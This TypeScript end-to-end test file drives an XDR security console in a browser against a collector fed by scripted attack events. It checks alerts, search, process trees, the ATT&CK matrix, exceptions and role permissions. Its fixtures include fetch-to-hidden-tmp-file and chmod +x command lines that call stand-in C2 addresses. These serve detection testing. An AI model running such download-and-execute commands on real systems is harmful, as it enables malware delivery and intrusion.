// The web console in a real browser against a real collector: every page renders with data at
// 1280x800 (a screenshot of each in test/console/artifacts), a new alert reaches the open
// Workbench without a reload, pivots lead to search, syntax errors point at their column, roles
// decide which buttons exist, and the static server sends the console with its CSP and caching.
// The data come from protocol-level agents streaming a scripted attack (test/golden/rules), so
// this test needs no root; test/console/main-path.test.ts runs a real attack with a real agent.
import { readFileSync } from 'node:fs';
import { request } from 'node:https';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attackWireEvents } from '../e2e/attack-events.js';
import { BIN, ROOT, api, pinnedCa, runOk, startCollector, tempDir, waitFor, type CollectorProcess } from '../e2e/harness.js';
import { enrollRaw, helloRaw, type RawAgent } from '../e2e/raw-agent.js';
import { fitsWidth, hasChromium, launch, openTab, poll, shot, signIn, type Tab } from './browser.js';

let c: CollectorProcess;
let browser: Browser;
let admin: Tab;
const agents: RawAgent[] = [];
let viewerToken: string;
let cert: string;

let enrollToken: string;

async function rawHost(hostname: string): Promise<RawAgent> {
  // one token for both hosts: each CLI start costs seconds on a busy machine
  enrollToken ??= JSON.parse(await runOk(BIN.collector, ['enroll-token', 'create', '--uses', '2', '--data', c.dataDir, '--json'])).token;
  const id = await enrollRaw(c.agentUrl, cert, enrollToken, hostname);
  const a = await helloRaw(c.agentUrl, cert, id, hostname);
  agents.push(a);
  return a;
}

async function attack(agent: RawAgent, seq: number, session: number, c2: string): Promise<void> {
  agent.send({ batch: { seq, events: attackWireEvents(session, Date.now(), c2) } });
  const ack = await agent.next(15_000);
  expect(ack.body).toBe('ack');
}

async function alertCount(): Promise<number> {
  return (await api(c, '/api/v1/alerts?limit=1000')).body.alerts.length;
}

/** A raw HTTPS GET of the collector (headers included), as a browser would make it. */
function fetchRaw(path: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string }> {
  return new Promise((ok, fail) => {
    const req = request(new URL(path, c.apiUrl), { ca: [pinnedCa(c)], checkServerIdentity: () => undefined, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (d) => chunks.push(d));
      res.on('end', () => ok({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', fail);
    req.end();
  });
}

beforeAll(async () => {
  if (!hasChromium) return;
  c = await startCollector(tempDir('console'), ['--rules', join(ROOT, 'test/golden/rules')]);
  cert = readFileSync(join(c.dataDir, 'tls', 'collector.crt'), 'utf8');
  viewerToken = (await api(c, '/api/v1/tokens', { method: 'POST', body: { user: 'vera', role: 'viewer' } })).body.token;
  expect(viewerToken).toMatch(/^xdr_/);
  const web7 = await rawHost('web7');
  await attack(web7, 1, 4100, '203.0.113.5');
  await waitFor('the first alert', async () => (await alertCount()) >= 1 || undefined, 45_000);
  browser = await launch();
  admin = await openTab(browser);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  for (const a of agents) a.close();
  await c?.stop();
});

describe('web console', { skip: !hasChromium, timeout: 90_000 }, () => {
  it('serves the console with its CSP, caching and SPA fallback, and keeps API 404s as JSON', async () => {
    const index = await fetchRaw('/');
    expect(index.status).toBe(200);
    expect(index.headers['content-type']).toMatch(/^text\/html/);
    expect(index.headers['cache-control']).toBe('no-cache');
    expect(String(index.headers['content-security-policy'])).toContain("script-src 'self'");
    expect(index.body).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/); // no inline script
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(index.body)![1];
    const js = await fetchRaw(script, { 'accept-encoding': 'gzip' });
    expect(js.status).toBe(200);
    expect(js.headers['content-type']).toMatch(/^text\/javascript/);
    expect(js.headers['content-encoding']).toBe('gzip');
    expect(js.headers['cache-control']).toContain('immutable');
    const deep = await fetchRaw('/alerts/00000000-0000-4000-8000-000000000000');
    expect(deep.status).toBe(200);
    expect(deep.body).toBe(index.body);
    expect((await fetchRaw('/assets/missing-abc.js')).status).toBe(404);
    const nope = await fetchRaw('/api/v1/nope');
    expect(nope.status).toBe(404);
    expect(JSON.parse(nope.body).error.code).toBe('XDR_NOT_FOUND');
  });

  it('sign-in refuses a bad token with the reason, then signs in and keeps the token out of URLs', async () => {
    const { page } = admin;
    await page.goto(c.apiUrl);
    await page.waitForURL(/\/signin/);
    await shot(page, '01-sign-in');
    await page.getByTestId('token').fill(`xdr_${'A'.repeat(43)}`);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await poll(() => page.locator('.error-box').textContent()).toContain('not known to this collector');
    await shot(page, '01-sign-in-error');
    await page.getByTestId('token').fill(c.adminToken!);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByTestId('who').waitFor();
    expect(await page.getByTestId('who').textContent()).toContain('admin');
    expect(page.url()).not.toContain('xdr_');
    expect(await page.evaluate("sessionStorage.getItem('xdr.token')")).toBe(c.adminToken);
  });

  it('Workbench: alerts by score, and a new alert is pushed without a reload (polling off)', async () => {
    const { page } = admin;
    // no polling at all: the new alert can only arrive through GET /alerts/stream
    await page.evaluate("sessionStorage.setItem('xdr.workbench.poll', 'off')");
    let listReads = 0;
    page.on('request', (r) => { if (/\/api\/v1\/alerts\?/.test(r.url())) listReads++; });
    await page.goto(c.apiUrl);
    await poll(() => page.getByTestId('live').getAttribute('data-state')).toBe('live');
    const rows = page.locator('[data-testid=alerts] tbody tr');
    await poll(() => rows.count()).toBeGreaterThanOrEqual(1);
    expect(await rows.first().textContent()).toContain('web7');
    // a marker in the page's memory survives only if the page is not reloaded
    await page.evaluate('window.marker = 42');
    const before = await rows.count();
    // nothing changes, nothing is read: the page does not poll while the stream is live
    const reads = listReads;
    await page.waitForTimeout(4_500);
    expect(listReads).toBe(reads);
    const db3 = await rawHost('db3');
    await attack(db3, 1, 5100, '198.51.100.77');
    await poll(() => page.locator('[data-testid=alerts]').textContent(), { timeout: 30_000 }).toContain('db3');
    expect(await rows.count()).toBeGreaterThan(before);
    expect(await page.evaluate('window.marker')).toBe(42);
    expect(listReads).toBeGreaterThan(reads); // the push made the page read the list again
    await page.evaluate("sessionStorage.removeItem('xdr.workbench.poll')");
    // highest score first
    const scores = await page.locator('[data-testid=alerts] tbody tr .score').allTextContents();
    expect(scores.map(Number)).toEqual([...scores.map(Number)].sort((a, b) => b - a));
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '02-workbench');
  });

  it('Workbench: when the stream fails it says so, polls, and reconnects', async () => {
    const tab = await openTab(browser);
    try {
      await signIn(tab, c, c.adminToken!);
      const { page } = tab;
      await page.route('**/api/v1/alerts/stream', (r) => r.abort());
      await page.reload();
      const live = page.getByTestId('live');
      await poll(() => live.getAttribute('data-state')).toBe('paused');
      expect(await live.textContent()).toContain('Live updates paused — reconnecting');
      // polling keeps the list current meanwhile
      let listReads = 0;
      page.on('request', (r) => { if (/\/api\/v1\/alerts\?/.test(r.url())) listReads++; });
      await poll(() => listReads, { timeout: 10_000 }).toBeGreaterThanOrEqual(1);
      await shot(page, '02-workbench-stream-paused');
      await page.unroute('**/api/v1/alerts/stream');
      await poll(() => live.getAttribute('data-state'), { timeout: 40_000 }).toBe('live');
      expect(tab.problems).toEqual([]);
    } finally {
      await tab.context.close();
    }
  });

  it('Workbench: filters and bulk status change', async () => {
    const { page } = admin;
    const hostSelect = page.locator('select[data-filter=host]');
    const rows = page.locator('[data-testid=alerts] tbody tr');
    const all = await alertCount();
    const onDb3 = (await api(c, '/api/v1/alerts?host=host-db3')).body.alerts.length;
    await hostSelect.selectOption({ label: 'db3' });
    await poll(() => rows.count()).toBe(onDb3);
    expect(await page.locator('[data-testid=alerts]').textContent()).not.toContain('web7');
    await hostSelect.selectOption('');
    await poll(() => rows.count()).toBe(all);
    await page.getByLabel('Select all').check();
    await page.getByTestId('bulk').getByRole('button', { name: 'Mark in progress' }).click();
    await poll(async () => (await api(c, '/api/v1/alerts?status=in_progress')).body.alerts.length).toBe(all);
    await poll(() => page.locator('[data-testid=alerts] .status-in_progress').count()).toBe(all);
  });

  it('Alert page: score and why, highlights with pivots, scope, OAT timeline, graph, notes', async () => {
    const { page } = admin;
    const [a] = (await api(c, '/api/v1/alerts?host=host-web7')).body.alerts;
    await page.goto(new URL(`/alerts/${a.id}`, c.apiUrl).href);
    await page.getByTestId('highlights').waitFor();
    expect(await page.getByTestId('highlights').textContent()).toContain('curl -s -o /tmp/.x4100 http://203.0.113.5/x');
    expect(await page.getByTestId('score').textContent()).toContain(String(a.score));
    expect(await page.getByTestId('scope').textContent()).toContain('web7');
    // every model that recognised this attack is named on its one alert
    const models = await page.getByTestId('alert-models').textContent();
    for (const m of a.models) expect(models).toContain(m.title);
    await poll(() => page.locator('[data-testid=oat-timeline] li').count()).toBeGreaterThanOrEqual(4);
    await page.locator('[data-testid=alert-graph] canvas').first().waitFor();
    // response buttons for the host, for an admin
    expect(await page.locator('[data-host=web7] [data-action=isolate]').count()).toBe(1);
    await page.getByPlaceholder('Add a note…').fill('checked with the owner of web7');
    await page.getByRole('button', { name: 'Add note' }).click();
    await poll(async () => (await api(c, `/api/v1/alerts/${a.id}`)).body.notes.length).toBe(1);
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '03-alert');
    await page.getByTestId('alert-graph').scrollIntoViewIfNeeded();
    await shot(page, '03-alert-graph');
    // the confirmation names the host
    await page.locator('[data-host=web7] [data-action=isolate]').click();
    expect(await page.locator('.dialog-head h2').textContent()).toBe('Isolate web7?');
    expect(await page.getByTestId('confirm-action').textContent()).toBe('Isolate web7');
    await shot(page, '03-alert-isolate-confirm');
    await page.getByRole('button', { name: 'Cancel' }).click();
    // the pivot of the curl command opens Search with the command found
    await page.locator('[data-kind=commands] li', { hasText: 'curl -s -o' }).getByRole('link', { name: 'Search' }).click();
    await page.waitForURL(/\/search\?q=/);
    await poll(() => page.getByTestId('total').textContent()).toMatch(/^[1-9]/);
    expect(await page.getByTestId('results').textContent()).toContain('curl -s -o /tmp/.x4100');
  });

  it('Alert page: closing as false positive creates a scoped exception in the same step', async () => {
    const { page } = admin;
    const [a] = (await api(c, '/api/v1/alerts?host=host-db3')).body.alerts;
    await page.goto(new URL(`/alerts/${a.id}`, c.apiUrl).href);
    const triage = page.getByTestId('triage');
    await triage.waitFor();
    await triage.locator('select.select-small').selectOption('false_positive');
    const form = page.getByTestId('fp-exception');
    await form.waitFor();
    // prefilled from the alert: one of its filters, the command line seen in its events, its host
    await form.getByTestId('fp-rule').selectOption('g-download-tmp');
    const cmd = form.locator('[data-field="process.command_line"] textarea');
    await poll(() => cmd.inputValue()).toContain('curl -s -o /tmp/.x5100 http://198.51.100.77/x');
    expect(await form.locator('[data-field="process.command_line"] input[type=checkbox]').isChecked()).toBe(true);
    expect(await form.locator('.fp-hosts label', { hasText: 'db3' }).locator('input').isChecked()).toBe(true);
    await shot(page, '03-alert-false-positive-form');
    await page.getByTestId('close-with-exception').click();
    const created = page.getByTestId('fp-created');
    await created.waitFor();
    const exceptionId = await created.getAttribute('data-exception-id');
    const ex = (await api(c, `/api/v1/exceptions/${exceptionId}`)).body;
    expect(ex).toMatchObject({ rule_id: 'g-download-tmp', hosts: ['host-db3'], enabled: true });
    expect(ex.conditions).toContainEqual({ field: 'process.command_line', op: 'equals', values: ['curl -s -o /tmp/.x5100 http://198.51.100.77/x'] });
    expect(ex.comment).toContain(a.id);
    expect((await api(c, `/api/v1/alerts/${a.id}`)).body).toMatchObject({ status: 'closed', resolution: 'false_positive' });
    await shot(page, '03-alert-false-positive-created');
    await created.getByRole('link', { name: /Detections/ }).click();
    await poll(() => page.getByTestId('exceptions').textContent()).toContain('curl -s -o /tmp/.x5100');
  });

  it('Search: histogram, field sidebar top values add a term, syntax error at its column, saved queries', async () => {
    const { page } = admin;
    await page.goto(new URL('/search?q=&range=24h', c.apiUrl).href);
    await page.getByTestId('histogram').waitFor();
    await page.getByTestId('fields').getByRole('button', { name: 'process.name', exact: true }).click();
    await page.locator('.top-value', { hasText: 'chmod' }).click();
    await page.waitForURL(/process.name%3Achmod/);
    await poll(() => page.getByTestId('total').textContent()).toMatch(/^2 events/);
    await shot(page, '04-search');
    await page.getByRole('button', { name: 'Saved ▾' }).click();
    await page.getByTestId('save-name').fill('chmod in tmp');
    await page.getByTestId('saved-menu').getByRole('button', { name: 'Save' }).click();
    await poll(async () => (await api(c, '/api/v1/saved-queries')).body.map((q: { name: string }) => q.name)).toContain('chmod in tmp');
    // export: the file the browser saves is the API's CSV of the same query
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    expect(file.suggestedFilename()).toBe('xdr-search.csv');
    const csv = readFileSync(await file.path(), 'utf8').split('\r\n');
    expect(csv[0]).toMatch(/^@timestamp,/);
    expect(csv.filter((l) => l.includes('chmod +x'))).toHaveLength(2);
    await page.getByTestId('query').fill('process.name:(curl or');
    await page.getByRole('button', { name: 'Search', exact: true }).click();
    const err = page.getByTestId('search-error');
    await err.waitFor();
    expect(await err.textContent()).toMatch(/column \d+/);
    expect(await page.locator('.query-caret').count()).toBe(1);
    await shot(page, '04-search-syntax-error');
  });

  it('Execution profile: the tree with OAT markers, expand and collapse, file and network activity', async () => {
    const { page } = admin;
    await page.goto(new URL(`/processes/${encodeURIComponent('s4100:bash')}`, c.apiUrl).href);
    const tree = page.getByTestId('process-tree');
    await tree.waitFor();
    await poll(() => tree.textContent()).toContain('chmod +x /tmp/.x4100');
    expect(await tree.locator('.oat-marker').count()).toBeGreaterThanOrEqual(1);
    await tree.getByRole('button', { name: 'Collapse' }).first().click();
    expect(await tree.textContent()).not.toContain('chmod +x /tmp/.x4100');
    await tree.getByRole('button', { name: 'Expand' }).first().click();
    await tree.locator('[data-entity-id="s4100:4103"]').getByRole('button', { name: /^net 1/ }).click();
    await poll(() => page.getByTestId('activity-network').textContent()).toContain('203.0.113.5');
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '05-execution-profile');
  });

  it('OAT: matrix with drill-down, and the list', async () => {
    const { page } = admin;
    await page.goto(new URL('/oat', c.apiUrl).href);
    const matrix = page.getByTestId('matrix');
    await matrix.waitFor();
    // ATT&CK names from collector/content/attack-techniques.json
    await poll(() => matrix.locator('[data-technique=T1105]').textContent()).toContain('Ingress Tool Transfer');
    expect(await matrix.locator('[data-technique="T1222.002"]').textContent()).toContain('Linux and Mac File and Directory Permissions Modification');
    await matrix.locator('.matrix-cell').first().click();
    await poll(() => page.locator('[data-testid=drill] tbody tr').count()).toBeGreaterThanOrEqual(1);
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '06-oat-matrix');
    await page.getByRole('button', { name: 'List' }).click();
    await page.getByTestId('oat-list').waitFor();
    // the list shows the technique picked in the matrix, by name
    expect(await page.locator('[data-testid=oat-list] .technique-name').count()).toBeGreaterThan(0);
    await shot(page, '06-oat-list');
  });

  it('Endpoints and enrollment', async () => {
    const { page } = admin;
    await page.goto(new URL('/endpoints', c.apiUrl).href);
    const table = page.getByTestId('agents');
    await table.waitFor();
    await poll(() => table.textContent()).toContain('web7');
    // presence as the API reports it (a protocol-level agent may have missed its heartbeat by now)
    const web7 = (await api(c, '/api/v1/agents')).body.find((x: { hostname: string }) => x.hostname === 'web7');
    expect(await table.locator('[data-agent=web7]').textContent()).toContain(web7.online ? 'online' : 'offline');
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '07-endpoints');
    await page.getByRole('link', { name: 'Enroll an agent' }).click();
    await page.getByTestId('enroll-command').waitFor();
    const enroll = await page.getByTestId('enroll-command').textContent();
    expect(enroll).toMatch(/^xdr-agent enroll --collector wss:\/\/\S+:\d+ --token \S+ --fingerprint \S+$/);
    if ((await api(c, '/api/v1/openapi.json')).body.paths['/api/v1/install/command']) {
      // a fresh token each time, with this collector's fingerprint
      expect(enroll).toContain(`--fingerprint ${c.fingerprint}`);
      expect(await page.getByTestId('install-command').textContent()).toMatch(/^curl .*\/install\.sh \| sudo sh -s -- --token \S+/);
      const first = enroll!.split('--token ')[1].split(' ')[0];
      await page.getByRole('button', { name: 'New token' }).click();
      await poll(() => page.getByTestId('enroll-command').textContent()).not.toContain(first);
    }
    await shot(page, '07-enroll');
  });

  it('Response Management', async () => {
    const { page } = admin;
    const hasResponses = (await api(c, '/api/v1/openapi.json')).body.paths['/api/v1/responses']?.post !== undefined;
    if (hasResponses) {
      // a script for the protocol-level agent: it never answers, so the action stays in flight
      const r = await api(c, '/api/v1/responses', { method: 'POST', body: { agent_id: 'web7', action: 'run_script', params: { interpreter: 'sh', script: 'id' }, reason: 'console test' } });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
    await page.goto(new URL('/responses', c.apiUrl).href);
    if (hasResponses) await poll(() => page.getByTestId('responses').textContent()).toContain('console test');
    else await poll(() => page.locator('.empty-title').textContent()).toContain('no response API');
    await shot(page, '08-responses');
  });

  it('Detections: list, switch off and on, exceptions', async () => {
    const { page } = admin;
    await page.goto(new URL('/detections?tab=filter', c.apiUrl).href);
    const table = page.getByTestId('detections');
    await table.waitFor();
    const row = table.locator('[data-detection=g-chmod-tmp]');
    await row.locator('.switch').click();
    await poll(async () => (await api(c, '/api/v1/detections?q=g-chmod-tmp')).body[0].enabled).toBe(false);
    await row.locator('.switch').click();
    await poll(async () => (await api(c, '/api/v1/detections?q=g-chmod-tmp')).body[0].enabled).toBe(true);
    expect(await fitsWidth(page)).toBe(true);
    await shot(page, '09-detections');
    await page.getByRole('tab', { name: 'Exceptions' }).click();
    await page.getByRole('button', { name: 'New exception' }).click();
    await page.locator('form.panel select').first().selectOption('g-chmod-tmp');
    await page.locator('form.panel textarea').fill('/opt/known-good');
    await page.getByRole('button', { name: 'Create exception' }).click();
    // the table already lists the exception made from the false-positive alert: wait for the new row
    await poll(() => page.getByTestId('exceptions').textContent()).toContain('/opt/known-good');
    await shot(page, '09-exceptions');
    expect(admin.problems).toEqual([]);
  });

  it('a viewer sees data but no buttons that change anything', async () => {
    const viewer = await openTab(browser);
    try {
      await signIn(viewer, c, viewerToken);
      const { page } = viewer;
      expect(await page.getByTestId('who').textContent()).toContain('vera');
      await poll(() => page.locator('[data-testid=alerts] tbody tr').count()).toBeGreaterThanOrEqual(1);
      expect(await page.getByLabel('Select all').count()).toBe(0);
      const [a] = (await api(c, '/api/v1/alerts?host=host-web7')).body.alerts;
      await page.goto(new URL(`/alerts/${a.id}`, c.apiUrl).href);
      await page.getByTestId('highlights').waitFor();
      expect(await page.locator('[data-action]').count()).toBe(0);
      expect(await page.getByPlaceholder('Add a note…').count()).toBe(0);
      await shot(page, '10-alert-as-viewer');
      await page.goto(new URL('/detections', c.apiUrl).href);
      await page.getByTestId('detections').waitFor();
      expect(await page.getByTestId('detections').getByRole('checkbox').first().isDisabled()).toBe(true);
      expect(viewer.problems).toEqual([]);
    } finally {
      await viewer.context.close();
    }
  });
});
